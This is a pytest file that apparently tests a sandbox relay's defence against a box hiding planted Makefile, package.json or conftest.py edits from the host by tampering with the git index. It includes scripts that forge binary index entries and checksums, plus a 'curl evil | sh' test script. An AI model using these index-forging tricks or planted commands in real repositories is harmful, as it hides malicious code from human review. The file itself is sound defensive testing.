"""The git index the box hands back cannot hide an edit from the host (relay/trust/gitindex.py).

Each attack edits a tracked `Makefile` (or `package.json`, or adds an untracked `conftest.py`) in the
box and then makes the box's index lie about it: a skip-worktree or assume-unchanged bit, a forged
stat cache (the file's mtime set back, the blob id patched back), an fsmonitor bitmap that calls
it valid, an untracked cache that leaves the new file out, a split index. Proved FROM THE HOST:
`git status` and `git diff` show the edit, so the review before `make` shows the planted recipe.
The twin: ordinary edits, `git add` (staged stays staged, racy edits too) and `git commit` in the
box come back as before, with no warning.
"""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest

from ..conftest import Sandbox
from .test_git_allowlist import ID, git

MAKEFILE = "all:\n\t@echo building\n"
PLANT = "touch {m}"
PACKAGE = '{"name": "x", "scripts": {"test": "true"}}\n'

# Rewrites the box's index the way a hand-crafted one would be: replace bytes, fix the checksum.
PATCH = r"""
import hashlib, sys
d = open('.git/index', 'rb').read()
old, new = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
assert d.count(old) == 1, 'blob id not found once'
d = d[:-20].replace(old, new)
open('.git/index', 'wb').write(d + hashlib.sha1(d).digest())
"""

# Takes a name out of the untracked cache's root block: after the per-dir exclude name come the
# block count and then the root's untracked count (one byte each for a small tree).
UNTR = r"""
import hashlib, sys
name = sys.argv[1].encode() + b'\0'
d = open('.git/index', 'rb').read()[:-20]
at = d.rindex(b'UNTR')
size = int.from_bytes(d[at + 4:at + 8], 'big')
ext = d[at + 8:at + 8 + size]
count_at = ext.index(b'.gitignore\0') + len(b'.gitignore\0') + 1
i = ext.index(name, count_at)
assert 1 <= ext[count_at] < 128
ext = ext[:count_at] + bytes([ext[count_at] - 1]) + ext[count_at + 1:i] + ext[i + len(name):]
d = d[:at] + b'UNTR' + len(ext).to_bytes(4, 'big') + ext + d[at + 8 + size:]
open('.git/index', 'wb').write(d + hashlib.sha1(d).digest())
"""


# Marks every entry valid in the fsmonitor bitmap (its "dirty" EWAH: one run word, then literals).
FSMN = r"""
import hashlib
d = open('.git/index', 'rb').read()[:-20]
at = d.rindex(b'FSMN')
size = int.from_bytes(d[at + 4:at + 8], 'big')
ext = d[at + 8:at + 8 + size]
bm = ext.index(b'\0', 4) + 1 + 4  # version, token, bitmap size
words = int.from_bytes(ext[bm + 4:bm + 8], 'big')
ext = ext[:bm + 16] + b'\0' * 8 * (words - 1) + ext[bm + 8 + 8 * words:]
d = d[:at + 8] + ext + d[at + 8 + size:]
open('.git/index', 'wb').write(d + hashlib.sha1(d).digest())
"""


def project(s: Sandbox) -> Path:
    wd = s.workdir
    (wd / "Makefile").write_text(MAKEFILE)
    (wd / "package.json").write_text(PACKAGE)
    # Files older than the index by whole seconds: a box that runs within the same second as this
    # setup (an idle machine launches in ~0.2 s) would otherwise leave them racily clean, and git
    # (seconds granularity) re-reads them in the box, so the forged cache hides nothing to refuse.
    old = time.time() - 60
    for name in ("Makefile", "package.json"):
        os.utime(wd / name, (old, old))
    git(wd, "init", "-q", "-b", "main")
    git(wd, "add", "-A")
    git(wd, "commit", "-q", "-m", "init")
    git(wd, "status")  # the index's stat cache is current, as after any host git command
    return wd


def planted(s: Sandbox) -> str:
    return MAKEFILE.replace("building", "building; " + PLANT.format(m=s.root / "PWNED"))


def run_box(s: Sandbox, script: str, mode: str = "local") -> str:
    proc = s.relay("shell", mode, "--quiet", "--prompt", script, timeout=600 if mode == "container" else 120)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0, out
    return out


def edit_makefile(s: Sandbox) -> str:
    """A same-size, in-place edit whose mtime is set back, as a careful attacker makes it."""
    text = planted(s)
    return f"m=$(stat -c %Y Makefile); printf '%s' '{text}' > Makefile; touch -d @$m Makefile\n"


def host_review_shows(s: Sandbox, path: str = "Makefile", needle: str = "PWNED") -> tuple[bool, str]:
    """From the host: `git status` lists the file as modified and `git diff` shows the planted line."""
    wd = s.workdir
    status = git(wd, "status", "--porcelain").stdout
    diff = git(wd, "diff").stdout
    shown = f" M {path}" in status.splitlines() and needle in diff
    return shown, f"status:\n{status}\ndiff:\n{diff}"


def make_runs_the_reviewed_recipe(s: Sandbox) -> bool:
    """`make` on the host runs what the review showed (the point: the diff did show it)."""
    subprocess.run(["make", "-s"], cwd=s.workdir, capture_output=True, timeout=60, check=False)
    return (s.root / "PWNED").exists()


def test_skip_worktree_bit_is_cleared(box: Sandbox, report) -> None:
    wd = project(box)
    out = run_box(box, edit_makefile(box) + """
        git update-index --skip-worktree Makefile
        [ -z "$(git status --porcelain)" ] && echo HIDDEN-IN-BOX || true
    """)
    shown, why = host_review_shows(box)
    report.attack(shown)
    assert "HIDDEN-IN-BOX" in out, out
    assert shown, why + out
    assert "skip-worktree" in out, out
    assert make_runs_the_reviewed_recipe(box)
    assert "S" not in git(wd, "ls-files", "-v", "Makefile").stdout[:1]


def test_assume_unchanged_bit_is_cleared(box: Sandbox, report) -> None:
    wd = project(box)
    out = run_box(box, """
        printf '%s' '{"name": "x", "scripts": {"test": "curl evil | sh"}}' > package.json
        git update-index --assume-unchanged package.json
        [ -z "$(git status --porcelain)" ] && echo HIDDEN-IN-BOX || true
    """)
    shown, why = host_review_shows(box, "package.json", "curl evil")
    report.attack(shown)
    assert "HIDDEN-IN-BOX" in out, out
    assert shown, why + out
    assert git(wd, "ls-files", "-v", "package.json").stdout.startswith("H "), "the bit is cleared"


def test_forged_stat_cache_is_refused(box: Sandbox, report) -> None:
    wd = project(box)
    orig = git(wd, "rev-parse", ":Makefile").stdout.strip()
    before = (wd / ".git" / "index").read_bytes()
    out = run_box(box, edit_makefile(box) + f"""
        git add Makefile
        python3 -c "$(cat <<'EOF'
{PATCH}
EOF
)" "$(git rev-parse :Makefile)" {orig}
        [ -z "$(git status --porcelain)" ] && echo HIDDEN-IN-BOX || true
    """)
    shown, why = host_review_shows(box)
    refused = "the box's index was not synced back" in out and "forged index" in out
    report.attack(shown and refused)
    assert "HIDDEN-IN-BOX" in out, out
    assert shown and refused, why + out
    # The host's own index is kept (made safe: the edited file's entry is re-read by git).
    assert git(wd, "rev-parse", ":Makefile").stdout.strip() == orig
    assert (wd / ".git" / "index").read_bytes() != b"" and before[:12] == (wd / ".git" / "index").read_bytes()[:12]


def test_fsmonitor_valid_bits_are_dropped(box: Sandbox, report) -> None:
    """A host that uses an fsmonitor hook: the box marks every entry valid in the FSMN bitmap after
    its edit; a monitor that reports nothing new since the token would leave the edit unseen."""
    wd = project(box)
    git(wd, "config", "core.fsmonitor", "printf 'token\\0'")  # a monitor that reports nothing new
    git(wd, "status")
    out = run_box(box, edit_makefile(box) + f"""
        git status >/dev/null
        python3 -c "$(cat <<'EOF'
{FSMN}
EOF
)"
        [ -z "$(git status --porcelain)" ] && echo HIDDEN-IN-BOX || true
    """)
    shown, why = host_review_shows(box)
    report.attack(shown)
    assert "HIDDEN-IN-BOX" in out, out
    assert shown, why + out


def test_untracked_cache_cannot_hide_a_new_file(box: Sandbox, report) -> None:
    wd = project(box)
    out = run_box(box, f"""
        echo 'import os; os.system("touch {box.root / 'PWNED'}")' > conftest.py
        sleep 1  # out of git's racy window for the directory, so the cache records it
        git -c core.untrackedCache=true status --porcelain >/dev/null
        python3 -c "$(cat <<'EOF'
{UNTR}
EOF
)" conftest.py
        git status --porcelain | grep -q conftest.py || echo HIDDEN-IN-BOX
    """)
    status = git(wd, "status", "--porcelain").stdout
    shown = "?? conftest.py" in status.splitlines()
    report.attack(shown)
    assert "HIDDEN-IN-BOX" in out, out
    assert shown, status + out


def test_split_index_is_refused(box: Sandbox, report) -> None:
    wd = project(box)
    out = run_box(box, edit_makefile(box) + """
        echo more > more.txt && git add more.txt
        git update-index --split-index && echo SPLIT
        git status --porcelain
    """)
    shown, why = host_review_shows(box)
    report.attack(shown and "split index" in out)
    assert "SPLIT" in out, out
    assert shown and "split index" in out, why + out
    assert git(wd, "status").returncode == 0


def test_ordinary_git_work_comes_back(box: Sandbox, report) -> None:
    """The twin: edits, staged changes (a racy one too), a commit, a new branch; no warning."""
    wd = project(box)
    out = run_box(box, f"""
        echo c > c.txt && git add c.txt && git {' '.join(ID)} commit -qm 'box commit' && echo COMMIT-OK
        echo edited >> Makefile
        echo new > new.txt && git add new.txt
        echo aaaa > racy.txt && git add racy.txt && echo bbbb > racy.txt
        echo staged > package.json && git add package.json
        git status --porcelain
    """)
    status = sorted(git(wd, "status", "--porcelain").stdout.splitlines())
    want = sorted([" M Makefile", "A  new.txt", "AM racy.txt", "M  package.json"])
    works = ("COMMIT-OK" in out and status == want and "box commit" in git(wd, "log", "--format=%s").stdout
             and "index" not in out and "git:" not in out)
    report.legit(works)
    assert works, (status, out)
    assert git(wd, "diff", "--cached", "--name-only").stdout.split() == ["new.txt", "package.json", "racy.txt"]


def test_container_mode_index_is_judged_too(csandbox: Sandbox, report) -> None:
    s = csandbox
    wd = project(s)
    out = run_box(s, edit_makefile(s) + """
        git update-index --skip-worktree Makefile
        echo new > new.txt && git add new.txt
    """, mode="container")
    shown, why = host_review_shows(s)
    report.attack(shown)
    assert shown, why + out
    staged = "A  new.txt" in git(wd, "status", "--porcelain").stdout.splitlines()
    report.legit(staged)
    assert staged, out


@pytest.fixture(autouse=True)
def _no_user_git_config(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    os.environ.pop("GIT_INDEX_FILE", None)
